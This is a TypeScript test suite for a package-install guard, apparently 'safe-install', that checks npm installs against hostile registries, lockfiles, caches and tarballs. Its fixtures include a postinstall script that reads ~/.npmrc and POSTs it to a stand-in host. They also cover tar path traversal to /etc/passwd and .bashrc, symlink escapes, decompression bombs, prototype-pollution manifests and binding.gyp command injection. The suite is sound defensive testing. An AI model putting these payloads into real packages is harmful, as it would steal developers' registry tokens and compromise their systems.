/**
 * What hostile packages, registries and lockfiles try against the built program. Every payload only touches a marker
 * file, which nothing may ever create.
 */
import { execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync } from 'node:fs'
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { gzipSync } from 'node:zlib'
import t from 'tap'
import type { Test } from 'tap'
import { SafeInstallError } from '../../lib/errors.ts'
import { limits } from '../../lib/limits.ts'
import { runCli, runHere } from '../helpers/cli.ts'
import { makeProject, snapshot } from '../helpers/project.ts'
import type { Project } from '../helpers/project.ts'
import { startRegistry } from '../helpers/registry.ts'
import type { Registry } from '../helpers/registry.ts'
import { packFiles, tarEntry, tarballOf } from '../helpers/tarball.ts'
import type { FileTable } from '../helpers/tarball.ts'

const exec = promisify(execFile)
const pkg = (name: string, version: string, more: object = {}): string =>
  JSON.stringify({ name, version, ...more })

/** In INIT_CWD's parent, so that neither a roll-back nor a folder of another package hides it. */
const mark = 'touch "$INIT_CWD/../ran"'

type Place = { readonly project: Project; readonly registry: Registry; readonly t: Test }

type Attack = {
  readonly name: string
  readonly manifest?: object
  readonly prepare?: (place: Place) => Promise<unknown> | void
  readonly args?: (place: Place) => readonly string[]
  /** 10 stopped, 1 refused by the install itself, 0 installed without what the attack wanted. */
  readonly code: 0 | 1 | 10
  readonly says: RegExp
}

const steals = (name: string, more: object = {}): FileTable => ({
  'package.json': pkg(name, '1.0.0', { scripts: { postinstall: 'node s.js' }, ...more }),
  's.js': [
    "const token = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8')",
    "fetch('https://collect.invalid/', { method: 'POST', body: token })",
    '',
  ].join('\n'),
})

const honest = { 'package.json': pkg('a', '1.0.0'), 'index.js': '// honest\n' }
const allow = (...names: readonly string[]) => ({
  allowScripts: Object.fromEntries(names.map(name => [name, true])),
})

const lockWith = (name: string, entry: object): string =>
  JSON.stringify({
    name: 'p',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'p', version: '1.0.0', dependencies: { [name]: '1.0.0' } },
      [`node_modules/${name}`]: { version: '1.0.0', ...entry },
    },
  })

/** Overwrites every tarball in npm's cache in place, as `a` with a script that steals; the index stays. */
const poisonCache = async ({ cache }: Project): Promise<void> => {
  const content = join(cache, '_cacache', 'content-v2')
  for (const line of await snapshot(content)) {
    const path = join(content, line.split(' ')[0] ?? '')
    const isGzip = (await readFile(path)).subarray(0, 2).equals(Buffer.from([0x1f, 0x8b]))
    if (isGzip) await writeFile(path, packFiles(steals('a')))
  }
}

/** The honest package is looked at and found clean; then the cache changes. */
const inspectThenPoison = async ({ project, t: test }: Place): Promise<void> => {
  test.equal((await runCli(project, ['--inspect', 'a'])).code, 0)
  await poisonCache(project)
}

const gitRepository = async ({ project }: Place, files: Readonly<Record<string, string>>): Promise<void> => {
  const work = join(dirname(project.path), 'work')
  await mkdir(work)
  for (const [path, text] of Object.entries(files)) await writeFile(join(work, path), text)
  for (const args of ['init -q -b main', 'add .', 'commit -q -m first'])
    await exec('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.test', ...args.split(' ')], {
      cwd: work,
    })
}

const attacks: readonly Attack[] = [
  {
    name: 'a registry without integrity serves other bytes after they were looked at',
    prepare: async ({ project, registry, t: test }) => {
      registry.publish({ files: honest, dist: { integrity: undefined, shasum: undefined } })
      test.equal((await runCli(project, ['--inspect', 'a'])).code, 0)
      await rm(join(project.cache, '_cacache'), { recursive: true })
      registry.lie('a', { at: 'tarball' }, { kind: 'bytes', bytes: packFiles(steals('a')) })
    },
    args: () => ['a'],
    code: 10,
    says: /secret-exfiltration/,
  },
  {
    name: 'a changed cache',
    prepare: place => {
      place.registry.publish({ files: honest })
      return inspectThenPoison(place)
    },
    // npm's extractor fetches again and leaves what it had unpacked of the changed bytes lying there.
    args: () => ['a'],
    code: 1,
    says: /s\.js should not be there; it is not what was inspected/,
  },
  {
    name: 'a changed cache, offline',
    prepare: place => {
      place.registry.publish({ files: honest })
      return inspectThenPoison(place)
    },
    args: () => ['a', '--offline'],
    code: 1,
    says: /ENOTCACHED|sha512/,
  },
  {
    name: 'bytes that are not those of the lockfile',
    manifest: { dependencies: { a: '1.0.0' } },
    prepare: async ({ project, registry }) => {
      const { url } = registry.publish({ files: steals('a') })
      const integrity = `sha512-${Buffer.alloc(64, 7).toString('base64')}`
      await project.write('package-lock.json', lockWith('a', { resolved: url, integrity }))
    },
    args: () => ['--ci'],
    code: 1,
    says: /expected\s+sha512-/,
  },
  {
    name: 'a lockfile entry whose address is another package',
    manifest: { dependencies: { a: '1.0.0' } },
    prepare: async ({ project, registry }) => {
      registry.publish({ files: honest })
      const { url } = registry.publish({ files: { 'package.json': pkg('evil', '1.0.0') } })
      await project.write('package-lock.json', lockWith('a', { resolved: url }))
    },
    args: () => ['--ci'],
    code: 10,
    says: /odd-origin/,
  },
  {
    name: 'a lockfile entry with another package’s bytes, digest and all',
    manifest: { dependencies: { a: '1.0.0' } },
    prepare: async ({ project, registry }) => {
      registry.publish({ files: honest })
      const { url, integrity } = registry.publish({ files: { 'package.json': pkg('evil', '1.0.0') } })
      await project.write('package-lock.json', lockWith('a', { resolved: url, integrity }))
    },
    args: () => [],
    code: 10,
    says: /odd-origin/,
  },
  {
    name: 'a script that only the registry’s manifest has',
    manifest: allow('a'),
    prepare: ({ registry }) => {
      registry.publish({
        files: honest,
        manifest: { scripts: { postinstall: mark }, hasInstallScript: true },
      })
    },
    args: () => ['a'],
    code: 10,
    says: /manifest-mismatch/,
  },
  {
    name: 'a script that only the tarball has, installed from a lockfile',
    prepare: async ({ project, registry }) => {
      const { url, integrity } = registry.publish({
        files: { 'package.json': pkg('a', '1.0.0', { scripts: { postinstall: mark } }) },
        manifest: { scripts: undefined, hasInstallScript: undefined },
      })
      await project.write('package.json', pkg('p', '1.0.0', { dependencies: { a: '1.0.0' } }))
      await project.write('package-lock.json', lockWith('a', { resolved: url, integrity }))
    },
    args: () => ['--ci', '--install-strategy=linked'],
    code: 0,
    says: /INIT_CWD/,
  },
  {
    name: 'two package.json in one tarball',
    manifest: allow('a'),
    prepare: ({ registry }) => {
      const { 'package.json': evil = '', 's.js': code = '' } = steals('a')
      const tarball = tarballOf([
        { path: 'package/package.json', data: honest['package.json'] },
        { path: 'package/s.js', data: code },
        { path: 'other/package.json', data: evil },
      ])
      registry.publish({ files: honest, tarball })
    },
    args: () => ['a'],
    code: 10,
    says: /secret-exfiltration[^]*path-trick|path-trick[^]*secret-exfiltration/,
  },
  {
    name: 'a package bundled inside another',
    prepare: ({ registry }) => {
      const inner = Object.entries(steals('in')).map(([path, text]) => [`node_modules/in/${path}`, text])
      registry.publish({
        files: {
          'package.json': pkg('a', '1.0.0', { bundleDependencies: ['in'], dependencies: { in: '1' } }),
          ...Object.fromEntries(inner),
        },
      })
    },
    args: () => ['a'],
    code: 10,
    says: /node_modules\/in\/s\.js/,
  },
  {
    name: 'a package that only a dependency’s shrinkwrap brings',
    prepare: ({ registry }) => {
      const { url, integrity } = registry.publish({ files: steals('in') })
      const lock = {
        name: 'a',
        version: '1.0.0',
        lockfileVersion: 3,
        packages: {
          '': { name: 'a', version: '1.0.0', dependencies: { in: '1' } },
          'node_modules/in': { version: '1.0.0', resolved: url, integrity },
        },
      }
      registry.publish({
        files: {
          'package.json': pkg('a', '1.0.0', { dependencies: { in: '1' } }),
          'npm-shrinkwrap.json': JSON.stringify(lock),
        },
        manifest: { _hasShrinkwrap: true, dependencies: undefined },
      })
    },
    args: () => ['a'],
    code: 10,
    says: /in@1\.0\.0/,
  },
  {
    name: 'a git package with scripts for every event',
    prepare: place =>
      gitRepository(place, {
        'package.json': pkg('a', '1.0.0', {
          scripts: { preinstall: mark, install: mark, postinstall: mark, prepare: mark, prepack: mark },
          dependencies: { honest: '1' },
        }),
      }).then(() => place.registry.publish({ files: { 'package.json': pkg('honest', '1.0.0') } })),
    args: ({ project }) => [`git+${pathToFileURL(join(dirname(project.path), 'work')).href}`],
    code: 0,
    says: /INIT_CWD/,
  },
  {
    name: 'a git package that steals',
    prepare: place =>
      gitRepository(place, steals('a', { scripts: { prepare: 'node s.js' } }) as Record<string, string>),
    args: ({ project }) => [`git+${pathToFileURL(join(dirname(project.path), 'work')).href}`],
    code: 10,
    says: /secret-exfiltration/,
  },
  {
    name: 'a command that binding.gyp expands',
    prepare: ({ registry }) => {
      registry.publish({
        files: {
          'package.json': pkg('a', '1.0.0'),
          'binding.gyp': JSON.stringify({
            targets: [{ target_name: 'a', sources: ['a.cc', `<!(${mark})`] }],
          }),
          'a.cc': '',
        },
        manifest: { hasInstallScript: undefined },
      })
    },
    args: () => ['a', '--yes'],
    code: 10,
    says: /node-gyp rebuild/,
  },
  {
    name: 'a script that rewrites what another one runs',
    manifest: allow('a', 'b'),
    prepare: ({ registry }) => {
      const files = {
        'package.json': pkg('a', '1.0.0', { scripts: { preinstall: 'cp x.js "../$(cat whom)/hook.js"' } }),
        'x.js': "require('node:fs').writeFileSync(process.env.INIT_CWD + '/../ran', '')\n",
        whom: 'b',
      }
      registry.publish({ files })
      const scripts = { postinstall: 'node hook.js' }
      registry.publish({ files: { 'package.json': pkg('b', '1.0.0', { scripts }), 'hook.js': '// inert\n' } })
    },
    args: () => ['a', 'b', '--yes'],
    code: 1,
    says: /b@1\.0\.0[^]*hook\.js|hook\.js[^]*b@1\.0\.0|node_modules\/b/,
  },
  {
    name: 'an extension of npm 12 in the project',
    prepare: async ({ project, registry }) => {
      registry.publish({ files: honest })
      const code = `require('fs').writeFileSync(${JSON.stringify(join(dirname(project.path), 'ran'))}, '')`
      await project.write('.npm-extension.cjs', code)
    },
    args: () => ['a'],
    code: 1,
    says: /npm-extension/,
  },
]

t.jobs = 2
for (const attack of attacks) {
  t.test(`nothing runs and nothing is written: ${attack.name}`, { buffered: true }, async t => {
    const registry = await startRegistry(t)
    const project = await makeProject(t, registry, {
      'package.json': { name: 'p', version: '1.0.0', ...attack.manifest },
    })
    const place = { project, registry, t }
    await attack.prepare?.(place)
    const before = await snapshot(project.path)
    const { code, stdout, stderr } = await runCli(project, attack.args?.(place) ?? [])
    t.equal(code, attack.code, stdout + stderr)
    t.match(stdout + stderr, attack.says)
    t.notOk(existsSync(join(dirname(project.path), 'ran')), 'nothing of it ran')
    if (code !== 0) t.strictSame(await snapshot(project.path), before, 'everything is as before')
    else {
      const text = await readFile(join(project.path, 'node_modules/a/index.js'), 'utf8').catch(
        () => '// honest\n',
      )
      t.equal(text, '// honest\n', 'what was installed is what was read')
    }
  })
}

const gib = (mib: number, bytes: Uint8Array): Buffer => {
  // One compressed member, many times: a file of gigabytes costs the test nothing.
  const member = gzipSync(bytes)
  return Buffer.concat(Array.from({ length: mib }, () => member))
}

const mib = 1024 * 1024
/** Compresses to a fiftieth: less would be called a bomb for its ratio alone. */
const dull = Buffer.concat([randomBytes(20_000), Buffer.alloc(mib - 20_000)])

const file = (name: string): Uint8Array =>
  tarEntry({ path: 'package/package.json', data: pkg(name, '1.0.0') })
const withFile = (name: string, files: FileTable): Buffer =>
  packFiles({ 'package.json': pkg(name, '1.0.0'), ...files })
const dependencies = (count: number): object =>
  Object.fromEntries(Array.from({ length: count }, (_, index) => [`dependency-${index}`, '1']))

/** By name; each is one tarball. `allow`: npm drops or reads it as we do, so it is said, and stops nothing. */
const tarballs: Readonly<Record<string, { readonly bytes: Uint8Array; readonly verdict?: 'allow' }>> = {
  'gzip-cut': { bytes: packFiles(honest).subarray(0, -20) },
  'gzip-wrong': { bytes: Buffer.concat([packFiles(honest).subarray(0, -8), Buffer.alloc(8)]) },
  'no-gzip': { bytes: Buffer.alloc(4096, 'x') },
  empty: { bytes: Buffer.alloc(0) },
  bomb: { bytes: gib(4096, Buffer.alloc(mib)) },
  'million-entries': {
    bytes: Buffer.concat([
      gzipSync(file('million-entries')),
      gib(500, Buffer.concat(Array.from({ length: 2048 }, (_, n) => tarEntry({ path: `package/${n}` })))),
    ]),
  },
  'large-file': {
    bytes: Buffer.concat([
      gzipSync(file('large-file')),
      gzipSync(tarEntry({ path: 'package/x.js', size: 500 * mib })),
      gib(500, dull),
      gzipSync(Buffer.alloc(1024)),
    ]),
  },
  'deep-json': {
    bytes: packFiles({
      'package.json': `{"name":"deep-json","version":"1.0.0","x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
    }),
  },
  'deep-exports': {
    bytes: packFiles({
      'package.json': `{"name":"deep-exports","version":"1.0.0","exports":${'{"import":'.repeat(20_000)}"./x.js"${'}'.repeat(20_000)}}`,
    }),
  },
  'many-dependencies': {
    bytes: packFiles({
      'package.json': pkg('many-dependencies', '1.0.0', {
        dependencies: dependencies(limits.maxManifestEntries + 1),
      }),
    }),
  },
  'control-characters': {
    verdict: 'allow',
    bytes: withFile('control-characters', { 'a\u001b[2J\u202ejs.txt': 'x' }),
  },
  'own-prototype': {
    verdict: 'allow',
    bytes: packFiles({
      'package.json':
        '{"name":"own-prototype","version":"1.0.0","__proto__":{"scripts":{"install":"x"}},"scripts":{"__proto__":"y"},"dependencies":{"__proto__":"1","constructor":"1"},"bin":{"__proto__":"z.js"}}',
    }),
  },
  absolute: {
    bytes: tarballOf([file('absolute'), { path: 'package//etc/passwd', data: 'x' }]),
  },
  climbing: { bytes: tarballOf([file('climbing'), { path: 'package/../../.bashrc', data: 'x' }]) },
  links: {
    verdict: 'allow',
    bytes: tarballOf([
      file('links'),
      { path: 'package/a', type: '2', linkpath: '/etc' },
      { path: 'package/a/passwd', data: 'x' },
      { path: 'package/b', type: '1', linkpath: '../../../etc/passwd' },
    ]),
  },
  duplicate: {
    bytes: tarballOf([
      file('duplicate'),
      { path: 'package/a\u001b[2J\u202ejs.txt', data: '1' },
      { path: 'package/a\u001b[2J\u202ejs.txt', data: '2' },
    ]),
  },
  'case-clash': {
    verdict: 'allow',
    bytes: tarballOf([
      file('case-clash'),
      { path: 'package/a.js', data: '1' },
      { path: 'package/A.js', data: '2' },
    ]),
  },
  'invalid-utf8': {
    verdict: 'allow',
    bytes: packFiles({
      'package.json': Buffer.concat([
        Buffer.from('{"name":"invalid-utf8","version":"1.0.0","x":"'),
        Buffer.from([0xff, 0xfe, 0xc0]),
        Buffer.from('"}'),
      ]),
    }),
  },
  'manifest-array': { bytes: packFiles({ 'package.json': '["name","version"]' }) },
  'manifest-number': { bytes: packFiles({ 'package.json': '1' }) },
  'manifest-not-json': { bytes: packFiles({ 'package.json': '{name:1}' }) },
  'no-manifest': { bytes: packFiles({ 'index.js': '' }) },
}

type Read = {
  readonly name: string
  readonly verdict: string
  readonly findings: readonly { readonly action: string }[]
  readonly gaps: readonly { readonly kind: string; readonly what: string }[]
}

t.test('hostile tarballs: each is named, none is clean, in every form of output', async t => {
  const registry = await startRegistry(t)
  const project = await makeProject(t, registry, { 'package.json': { name: 'p', version: '1.0.0' } })
  const names = Object.keys(tarballs)
  for (const [name, { bytes }] of Object.entries(tarballs))
    registry.publish({ name, version: '1.0.0', tarball: bytes })
  const before = await snapshot(project.path)
  const json = await runCli(project, ['--inspect', ...names, '--json', '--sarif', 'out.sarif'])
  t.equal(json.code, 10, json.stderr)
  const { packages, summary } = JSON.parse(json.stdout) as {
    packages: readonly Read[]
    summary: { gaps: number }
  }
  t.strictSame(
    packages.map(one => one.name),
    names,
  )
  for (const one of packages) {
    t.equal(one.verdict === 'allow', tarballs[one.name]?.verdict === 'allow', one.name)
    t.ok(one.findings.length + one.gaps.length > 0, `${one.name}: said`)
  }
  t.equal(
    summary.gaps,
    packages.reduce((sum, one) => sum + contentGaps(one).length, 0),
  )
  const [run] = (JSON.parse(await project.read('out.sarif')) as Sarif).runs
  const said = run?.results.filter(one => one.ruleId === 'content-gap') ?? []
  t.equal(said.length, summary.gaps, 'every gap is a result of the SARIF file')
  await rm(join(project.path, 'out.sarif'))
  const some = ['gzip-cut', 'manifest-array', 'duplicate', 'many-dependencies', 'climbing']
  const { code, stdout, stderr } = await runCli(project, some)
  t.equal(code, 10, stderr)
  for (const name of some) t.match(stdout, `${name}@1.0.0`)
  t.match(stdout, /Could not be read, so nobody knows what it does:/)
  t.match(stdout, /safe-install read 5 packages [^\n]* 4 gaps /, 'the summary counts them')
  t.notMatch(stdout + stderr, /[\u001b\u202e]/, 'and no control character gets through')
  t.strictSame(await snapshot(project.path), before)
})

const contentGaps = (one: Read): readonly unknown[] => one.gaps.filter(gap => gap.kind === 'content')
type Sarif = { readonly runs: readonly { readonly results: readonly { readonly ruleId: string }[] }[] }

/** An error of ours that names a code and a next step. */
const isRefusal = (error: unknown): boolean =>
  error instanceof SafeInstallError && error.code !== 'E_INTERNAL' && (error.hint ?? '') !== ''

/** What a registry may answer for `odd`, and whether an install of it can still be planned. */
const packuments: readonly (readonly [
  string,
  ((packument: Json) => unknown) | string,
  'planned' | 'refused',
])[] = [
  ['a list', () => [], 'refused'],
  ['null', () => null, 'refused'],
  ['a text', () => 'odd', 'refused'],
  ['no versions', packument => ({ ...packument, versions: undefined }), 'refused'],
  ['a list of versions', packument => ({ ...packument, versions: [packument['versions']] }), 'refused'],
  ['versions that are numbers', packument => ({ ...packument, versions: { '1.0.0': 1 } }), 'refused'],
  ['a version no version is', packument => ({ ...packument, versions: { x: {} } }), 'refused'],
  ['no dist', change({ dist: undefined }), 'planned'],
  ['an address on this disk', change({ dist: { tarball: 'file:///etc/passwd' } }), 'planned'],
  ['an address that is none', change({ dist: { tarball: 7 } }), 'planned'],
  ['dependencies as a list', change({ dependencies: ['a'] }), 'refused'],
  ['a dependency on the prototype', own('dependencies', '{"__proto__":"1"}'), 'refused'],
  ['a dependency with control characters', change({ dependencies: { 'x\u001b[2J': '1' } }), 'refused'],
  ['a dependency that climbs', change({ dependencies: { '../../x': '1' } }), 'refused'],
  ['a spec that is an object', change({ dependencies: { a: { b: 1 } } }), 'refused'],
  ['scripts on the prototype', own('scripts', '{"__proto__":"x"}'), 'planned'],
  ['a bin that climbs', change({ bin: { '../../x': '../../../x' } }), 'planned'],
  ['nesting', `${'['.repeat(200_000)}${']'.repeat(200_000)}`, 'refused'],
  ['half', '{"name":"odd","versions":{', 'refused'],
  ['another name', change({ name: 'other' }), 'planned'],
  ['itself', change({ dependencies: { odd: '1.0.0' } }), 'planned'],
]

type Json = Record<string, unknown>

function change(over: Json): (packument: Json) => unknown {
  return packument => ({ ...packument, versions: { '1.0.0': { ...version(packument), ...over } } })
}

/** A field whose text has a key `__proto__` of its own, which an object literal cannot write down. */
function own(field: string, text: string): (packument: Json) => unknown {
  return change({ [field]: JSON.parse(text) })
}

function version({ versions }: Json): Json {
  return (versions as Record<string, Json>)['1.0.0'] ?? {}
}

t.test('hostile packuments are planned or refused with a code, and write nothing', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  registry.publish({ files: { 'package.json': pkg('odd', '1.0.0') } })
  const project = await makeProject(t, registry, { 'package.json': { name: 'p', version: '1.0.0' } })
  const before = await snapshot(dirname(project.path), path => path === 'cache' || path === 'tmp')
  for (const [name, lie, expected] of packuments) {
    registry.beHonest()
    registry.lie(
      'odd',
      { at: 'packument' },
      typeof lie === 'string'
        ? { kind: 'bytes', bytes: Buffer.from(lie) }
        : { kind: 'packument', change: lie },
    )
    await rm(project.cache, { recursive: true, force: true })
    const outcome = await project.plan('install', ['odd']).then(
      () => 'planned',
      (error: unknown) => (isRefusal(error) ? 'refused' : `crash: ${String(error)}`),
    )
    t.equal(outcome, expected, name)
  }
  t.strictSame(await snapshot(dirname(project.path), path => path === 'cache' || path === 'tmp'), before)
})

/** Lockfiles, with what `npm ci` makes of them. */
const entry = { version: '1.0.0', resolved: 'https://registry.npmjs.org/odd/-/odd-1.0.0.tgz' }
const lockfiles: readonly (readonly [string, string])[] = [
  ['empty', ''],
  ['a list', '[]'],
  ['null', 'null'],
  ['a number', '7'],
  ['cut', '{"lockfileVersion":3,"packages":{'],
  ['packages as a list', '{"lockfileVersion":3,"packages":[{"version":"1.0.0"}]}'],
  ['an entry that is a text', '{"lockfileVersion":3,"packages":{"node_modules/odd":"1.0.0"}}'],
  ['a place outside', lockAt('node_modules/../../../outside', entry)],
  ['an absolute place', lockAt('/outside-of-it', entry)],
  ['a place on the prototype', '{"lockfileVersion":3,"packages":{"__proto__":{"version":"1.0.0"}}}'],
  ['a link that leaves', lockAt('node_modules/odd', { resolved: '../../outside', link: true })],
  ['a version that is an object', lockAt('node_modules/odd', { ...entry, version: { a: 1 } })],
  ['an integrity that is a number', lockAt('node_modules/odd', { ...entry, integrity: 7 })],
  ['an integrity of nothing', lockAt('node_modules/odd', { ...entry, integrity: 'sha512-' })],
  ['a resolved on this disk', lockAt('node_modules/odd', { ...entry, resolved: 'file:///etc/passwd' })],
  ['control characters', lockAt('node_modules/o\u001b[2Jdd', entry)],
  ['nesting', `{"lockfileVersion":3,"packages":{"":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}}`],
  ['invalid UTF-8', Buffer.from([0x7b, 0xff, 0xfe, 0x7d]).toString('latin1')],
  [
    'version 1 with a cycle',
    '{"lockfileVersion":1,"dependencies":{"odd":{"version":"1.0.0","requires":{"odd":"1"},"dependencies":{"odd":{"version":"1.0.0"}}}}}',
  ],
]

function lockAt(location: string, content: object): string {
  const packages = { '': { name: 'p', dependencies: { odd: '1.0.0' } }, [location]: content }
  return JSON.stringify({ name: 'p', lockfileVersion: 3, requires: true, packages })
}

t.test('hostile lockfiles are planned or refused with a code, and write nothing outside', async t => {
  const registry = await startRegistry(t)
  registry.publish({ files: { 'package.json': pkg('odd', '1.0.0') } })
  for (const [name, text] of lockfiles) {
    for (const kind of ['ci', 'install'] as const) {
      const project = await makeProject(t, registry, {
        'package.json': { name: 'p', version: '1.0.0', dependencies: { odd: '1.0.0' } },
        'package-lock.json': text,
      })
      const around = async (): Promise<readonly string[]> =>
        snapshot(dirname(project.path), path => ['cache', 'tmp', 'project'].includes(path))
      const before = await around()
      const outcome = await project.plan(kind).then(
        () => 'planned',
        (error: unknown) => (isRefusal(error) ? 'refused' : `crash: ${String(error)}`),
      )
      t.notMatch(outcome, /^crash/, `${kind}: ${name}`)
      t.strictSame(await around(), before, `${kind}: ${name}: nothing outside of the project`)
      t.notOk(existsSync('/outside-of-it'))
    }
  }
})

t.test('what could be planned all the same is refused when it is read', async t => {
  const registry = await startRegistry(t, { maxAge: 0 })
  const files = { 'package.json': pkg('odd', '1.0.0') }
  registry.publish({ files })
  const cases: readonly (readonly [
    string,
    ((packument: Json) => unknown) | undefined,
    string | undefined,
  ])[] = [
    ['no dist', change({ dist: undefined }), undefined],
    ['an address on this disk', change({ dist: { tarball: 'file:///etc/passwd' } }), undefined],
    ['an address that is none', change({ dist: { tarball: 7 } }), undefined],
    ['another name', change({ name: 'other' }), undefined],
    [
      'an integrity that is a number',
      undefined,
      lockAt('node_modules/odd', { ...entry, resolved: undefined, integrity: 7 }),
    ],
    [
      'a resolved on this disk',
      undefined,
      lockAt('node_modules/odd', { ...entry, resolved: 'file:///etc/passwd' }),
    ],
  ]
  for (const [name, lie, lock] of cases) {
    registry.beHonest()
    if (lie !== undefined) registry.lie('odd', { at: 'packument' }, { kind: 'packument', change: lie })
    const project = await makeProject(t, registry, {
      'package.json': { name: 'p', version: '1.0.0', dependencies: { odd: '1.0.0' } },
      ...(lock === undefined ? {} : { 'package-lock.json': lock }),
    })
    const before = await snapshot(project.path)
    const { code, stdout, stderr } = await runHere(project, ['--json'])
    t.ok(code === 1 || code === 10, `${name}: ${stdout}${stderr}`)
    t.notMatch(stdout, /E_INTERNAL/, name)
    t.strictSame(await snapshot(project.path), before, name)
  }
})
